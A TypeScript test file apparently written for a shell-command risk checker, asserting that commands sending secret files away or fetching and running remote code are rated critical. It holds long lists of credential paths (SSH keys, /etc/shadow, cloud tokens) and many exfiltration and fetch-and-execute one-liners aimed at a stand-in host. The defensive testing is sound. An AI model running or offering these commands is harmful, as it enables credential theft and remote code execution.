import { describe, expect, test } from 'vitest';
import { checkCommand } from '../src/index.ts';

/** What lets others in, or says what somebody did, by its usual name. */
const secrets = [
  '~/.ssh/id_rsa',
  '/etc/shadow',
  '~/.aws/credentials',
  '.env',
  '~/.kube/config',
  '~/.netrc',
  '~/.gnupg/secring.gpg',
  '~/.git-credentials',
  '~/.config/gcloud/credentials.db',
  '/var/run/secrets/kubernetes.io/serviceaccount/token',
  '~/.bash_history',
  'server.key',
  '~/.npmrc',
  '~/.pgpass',
  '~/.docker/config.json',
  '/proc/self/environ',
  '~/Library/Keychains/login.keychain-db',
  '~/.mozilla/firefox/x.default/logins.json',
  '~/.config/google-chrome/Default/Cookies',
  '~/.password-store/bank.gpg',
  'wallet.dat',
  '~/.vault-token',
  '/etc/ssl/private/site.key',
  '~/.azure/accessTokens.json',
  '~/.config/gh/hosts.yml',
  'terraform.tfstate',
  '~/.terraform.d/credentials.tfrc.json',
  '/root/.ssh/id_ed25519',
  '/etc/kubernetes/admin.conf',
  '~/.cargo/credentials.toml',
  '~/.m2/settings.xml',
  '~/.config/rclone/rclone.conf',
  '/etc/krb5.keytab',
  '~/.my.cnf',
  'config/master.key',
  'config/secrets.yml',
  'id_ecdsa',
  '~/.local/share/keyrings/login.keyring',
  '~/.pypirc',
  '~/.s3cfg',
  '~/.boto',
  '~/.oci/oci_api_key.pem',
  '~/.config/op/config',
  '/etc/openvpn/client.ovpn',
  '/etc/wireguard/wg0.conf',
  '~/.config/hub',
  '~/.heroku/credentials',
  '~/.gem/credentials',
  '~/.databrickscfg',
  '~/.snowsql/config',
  '~/.dbt/profiles.yml',
  '~/.huggingface/token',
  '~/.cache/huggingface/token',
  '~/.config/doctl/config.yaml',
  '~/.fly/config.yml',
  '/etc/shadow-',
  '/etc/passwd',
  '/etc/gshadow',
  '/etc/sudoers',
] as const;

/** Each way to send a file away, with `FILE` for the file. */
const senders = [
  'curl -T FILE https://x.example',
  'curl -F file=@FILE https://x.example',
  'curl -d @FILE https://x.example',
  'curl --data-binary @FILE https://x.example',
  'curl -X POST --data-urlencode x@FILE https://x.example',
  'cat FILE | curl -d @- https://x.example',
  'base64 FILE | curl -d @- https://x.example',
  'curl https://x.example -d "$(cat FILE)"',
  'curl "https://x.example/?q=$(base64 -w0 FILE)"',
  'wget --post-file=FILE https://x.example',
  'wget --post-data="$(cat FILE)" https://x.example',
  'cat FILE | nc x.example 99',
  'nc x.example 99 < FILE',
  'ncat x.example 99 -i 1 < FILE',
  'cat FILE > /dev/tcp/x.example/99',
  'scp FILE u@x.example:',
  'rsync FILE x.example:',
  'sftp x.example <<< "put FILE"',
  'ftp x.example <<< "put FILE"',
  'openssl s_client -connect x.example:443 < FILE',
  'socat - TCP:x.example:99 < FILE',
  'ssh x.example "cat > f" < FILE',
  'cat FILE | ssh x.example "cat > f"',
  'tar cz FILE | ssh x.example "cat > f"',
  'tar cz FILE | nc x.example 9',
  'zip - FILE | curl -T - x.example',
  'xxd FILE | curl -d @- x.example',
  'gzip -c FILE | nc x.example 9',
  'mail -s x a@x.example < FILE',
  'mutt -a FILE -- a@x.example < /dev/null',
  'aws s3 cp FILE s3://x/',
  'gsutil cp FILE gs://x/',
  'rclone copy FILE r:x',
  'gh gist create FILE',
  'http POST x.example < FILE',
  'dig $(base64 FILE).x.example',
  "python3 -c \"import requests; requests.post('http://x.example', data=open('FILE').read())\"",
  'cp FILE /var/www/html/',
  'croc send FILE',
  'az storage blob upload -f FILE -c x -n y',
  'kubectl cp FILE pod:/tmp/',
  'docker cp FILE c:/tmp',
  'curl --upload-file FILE ftp://x.example/',
  'X=$(cat FILE); curl -d "$X" x.example',
  'while read l; do curl x.example/$l; done < FILE',
  'for l in $(cat FILE); do dig $l.x.example; done',
  'xargs -I{} curl x.example/{} < FILE',
  'telnet x.example 25 < FILE',
  'busybox nc x.example 9 < FILE',
  'lftp -c "open x.example; put FILE"',
  'tee >(nc x.example 9) < FILE',
  'cat FILE | tee /dev/tcp/x.example/9',
  'cp FILE /tmp/a && curl -T /tmp/a x.example',
  'gpg -c FILE && curl -T FILE.gpg x.example',
  'tar czf /tmp/a.tgz FILE; scp /tmp/a.tgz x.example:',
  'base64 FILE > /tmp/a; curl -F a=@/tmp/a x.example',
  'git add -f FILE && git commit -m x && git push',
  'echo "$(<FILE)" | nc x.example 9',
  'mapfile -t a < FILE; curl -d "${a[*]}" x.example',
  'exec 3<FILE; nc x.example 9 <&3',
  "node -e \"fetch('http://x.example',{method:'POST',body:require('fs').readFileSync('FILE')})\"",
  "php -r \"file_get_contents('http://x.example/?'.urlencode(file_get_contents('FILE')));\"",
  "ruby -rnet/http -e \"Net::HTTP.post(URI('http://x.example'), File.read('FILE'))\"",
] as const;

/** Each way to print what an address serves, with `ADDRESS` for the address. */
const fetchers = [
  'curl -s ADDRESS',
  'curl -fsSL ADDRESS',
  'wget -qO- ADDRESS',
  'wget -O - ADDRESS',
  'curl ADDRESS 2>/dev/null',
  'fetch -o - ADDRESS',
  'lynx -source ADDRESS',
  'http ADDRESS',
  'aria2c -o - ADDRESS',
  'python3 -c "import urllib.request as u; print(u.urlopen(\'ADDRESS\').read().decode())"',
  'nc x.example 99',
  'openssl s_client -quiet -connect x.example:443',
  'ssh root@203.0.113.4 cat x',
  'busybox wget -qO- ADDRESS',
  'curl -s ADDRESS | base64 -d',
  'curl -s ADDRESS | gunzip',
  'curl -s ADDRESS | tr -d "\\r"',
  'curl -s ADDRESS | sed s/a/b/',
  'curl -s ADDRESS | head -100',
  'curl -s ADDRESS | grep -v x',
  'curl -s ADDRESS | tee /tmp/x',
  'cat < /dev/tcp/x.example/9',
  'perl -MLWP::Simple -e "getprint \'ADDRESS\'"',
  'php -r "readfile(\'ADDRESS\');"',
  'node -e "fetch(\'ADDRESS\').then(r=>r.text()).then(console.log)"',
  'dig +short txt x.example',
  'w3m -dump_source ADDRESS',
  'GET ADDRESS',
  'xh ADDRESS',
  'curlie ADDRESS',
  'axel -o - ADDRESS',
] as const;

/** Each way to run what a command prints, with `FETCH` for the command. */
const runners = [
  'FETCH | sh',
  'FETCH | bash',
  'FETCH | sudo bash -s -- -y',
  'FETCH | zsh',
  'FETCH | python3',
  'FETCH | python3 -',
  'FETCH | perl',
  'FETCH | ruby',
  'FETCH | node',
  'FETCH | php',
  'FETCH | lua -',
  'bash <(FETCH)',
  'bash -c "$(FETCH)"',
  'eval "$(FETCH)"',
  'eval $(FETCH)',
  'source <(FETCH)',
  '. <(FETCH)',
  'sh -c "`FETCH`"',
  '$(FETCH)',
  'FETCH > x; sh x',
  'FETCH > x && chmod +x x && ./x',
  'FETCH | tee x | sh',
  'FETCH | xargs -0 sh -c',
  'FETCH | sudo sh',
  'FETCH | env bash',
  'FETCH | nohup bash &',
  'FETCH | ssh h bash',
  'python3 -c "$(FETCH)"',
  'perl -e "$(FETCH)"',
  'ruby -e "$(FETCH)"',
  'node -e "$(FETCH)"',
  'awk "$(FETCH)"',
  'X=$(FETCH); eval "$X"',
  'X=$(FETCH); bash -c "$X"',
  'FETCH | at now',
  'FETCH | crontab -',
  'FETCH | tclsh',
  'FETCH | while read l; do eval "$l"; done',
  'FETCH | while read l; do $l; done',
  'FETCH | xargs -I{} sh -c "{}"',
  'FETCH | parallel',
  'bash /dev/stdin < <(FETCH)',
  'bash <<< "$(FETCH)"',
  'bash -s < <(FETCH)',
  'exec bash <(FETCH)',
  'make -f <(FETCH)',
  'FETCH | make -f -',
  'vim -S <(FETCH)',
  'FETCH | sudo tee /etc/cron.d/x',
  'FETCH >> ~/.bashrc',
  'FETCH | sudo tee /etc/profile.d/x.sh',
  'FETCH > .git/hooks/pre-commit',
  'FETCH | kubectl exec -i p -- sh',
  'FETCH | docker exec -i c sh',
  'FETCH | docker run -i --rm -v /:/h alpine sh',
  'f() { FETCH; }; f | sh',
  'alias g="FETCH"; g | sh',
  'sh -x <(FETCH)',
  'dash <(FETCH)',
  'ksh -c "$(FETCH)"',
  'fish -c "$(FETCH)"',
  'FETCH | bash -x',
  'FETCH | timeout 5 bash',
  'FETCH | nice bash',
  'FETCH | su - bob',
  'FETCH | sudo -u bob sh',
  'FETCH | unbuffer sh',
  'FETCH | busybox sh',
] as const;

/** The commands that are rated below critical. */
const belowCritical = (commands: readonly string[]): readonly string[] =>
  commands.filter((command) => checkCommand(command).risk !== 'critical');

describe('crossings', () => {
  test('every way to send a file away is critical for every kind of credentials', () => {
    const [first] = secrets;
    expect(belowCritical(senders.map((sender) => sender.replaceAll('FILE', first)))).toEqual([]);
    const some = [senders[0], 'cat FILE | nc x.example 9', 'scp FILE u@x.example:'];
    expect(
      belowCritical(secrets.flatMap((file) => some.map((sender) => sender.replaceAll('FILE', file)))),
    ).toEqual([]);
  });

  test('no way to send a file away alarms for a file of the project', () => {
    const alarmed = senders.filter((sender) => {
      const { risk } = checkCommand(sender.replaceAll('FILE', 'notes.txt'));
      return risk === 'high' || risk === 'critical';
    });
    expect(alarmed).toEqual([]);
  });

  test('every way to fetch is critical with every way to run', () => {
    const address = 'https://x.example/a.sh';
    const fetched = fetchers.map((fetcher) => fetcher.replaceAll('ADDRESS', address));
    expect(
      belowCritical(fetched.flatMap((fetcher) => [`${fetcher} | sh`, `bash -c "$(${fetcher})"`])),
    ).toEqual([]);
    expect(
      belowCritical(runners.map((runner) => runner.replaceAll('FETCH', () => `curl -s ${address}`))),
    ).toEqual([]);
  });

  test('to fetch without running alarms nobody', () => {
    const alarmed = fetchers.filter((fetcher) => {
      const { risk } = checkCommand(`${fetcher.replaceAll('ADDRESS', 'https://x.example/a.sh')} | less`);
      return risk === 'high' || risk === 'critical';
    });
    expect(alarmed).toEqual([]);
  });
});
